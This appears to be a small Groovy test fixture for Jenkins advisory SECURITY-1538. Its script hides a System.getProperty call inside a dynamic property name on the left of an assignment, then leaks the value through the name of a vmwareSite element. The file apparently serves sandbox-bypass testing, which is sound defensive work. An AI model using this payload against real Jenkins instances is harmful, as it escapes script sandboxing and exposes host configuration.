// class: property
// source: Jenkins SECURITY-1538 (property name on the left of an assignment)
// expect: env
class T { def x = 0 }
def t = new T()
t.({ System.getProperty('@SYSPROP@') }()) = 1
vmwareSite("leak-${t.properties.keySet().join()}") { network 'VM Network' }
